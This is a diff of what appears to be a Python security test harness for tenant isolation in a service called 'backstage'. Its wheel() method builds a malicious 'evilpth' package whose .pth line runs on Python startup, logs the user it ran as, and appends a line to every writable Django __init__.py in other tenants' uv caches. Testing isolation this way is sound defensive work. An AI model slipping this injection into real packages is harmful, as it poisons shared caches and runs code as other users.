@@ -6,8 +6,6 @@ from __future__ import annotations
 import base64
 import hashlib
 import json
-import os
-import shlex
 import time
 import zipfile
 from http.client import HTTPConnection
@@ -22,7 +20,7 @@ HERE = Path(__file__).parent
 PROBE = HERE / "probe.py"
 EVIL = "evil.example.com"
 ROOT = "/srv/backstage/jazz"
-PAYLOAD = '\n# put here by evilpth\n'
+PAYLOAD = "\n# put here by evilpth\n"
 
 
 class Stranger:
@@ -69,7 +67,12 @@ class Stranger:
     def subjects(self) -> list[str]:
         """The arguments of the probe."""
         process = self.host.sh("pgrep -u jazz-victim | head -1").strip()
-        return ["jazz/evil", "jazz/victim", process, self.host.sh("systemctl show -P MainPID backstage-emperor").strip()]
+        return [
+            "jazz/evil",
+            "jazz/victim",
+            process,
+            self.host.sh("systemctl show -P MainPID backstage-emperor").strip(),
+        ]
 
     def uid(self, name: str) -> int:
         return int(self.host.sh(f"id -u {name}"))
@@ -103,7 +106,9 @@ class Stranger:
             "print('{}')\n"
         )
         self.run(start)
-        self.host.sh("for n in $(seq 100); do grep -q @backstage-rival /proc/net/unix && exit 0; sleep 0.1; done; exit 1")
+        self.host.sh(
+            "for n in $(seq 100); do grep -q @backstage-rival /proc/net/unix && exit 0; sleep 0.1; done; exit 1"
+        )
 
     def rival(self) -> dict[str, Any]:
         """What it says it did."""
@@ -118,10 +123,10 @@ class Stranger:
 
     def wheel(self) -> None:
         """A package with a .pth line that says who ran it, and puts a line into every Django that it may write."""
+        caches = "/srv/backstage/*/cache/uv/archive-v0/*/django/__init__.py"
         line = (
-            "import os, glob, pwd; open('/tmp/evilpth-ran-as-' + pwd.getpwuid(os.getuid()).pw_name, 'w').close();"
-            " [open(p, 'a').write(%r) for p in glob.glob('/srv/backstage/*/cache/uv/archive-v0/*/django/__init__.py')"
-            " if os.access(p, os.W_OK)]\n" % PAYLOAD
+            "import os, glob, pwd; open('/var/tmp/evilpth-ran-as-' + pwd.getpwuid(os.getuid()).pw_name, 'w').close();"
+            f" [open(p, 'a').write({PAYLOAD!r}) for p in glob.glob({caches!r}) if os.access(p, os.W_OK)]\n"
         )
         info = "evilpth-1.0.dist-info"
         files = {
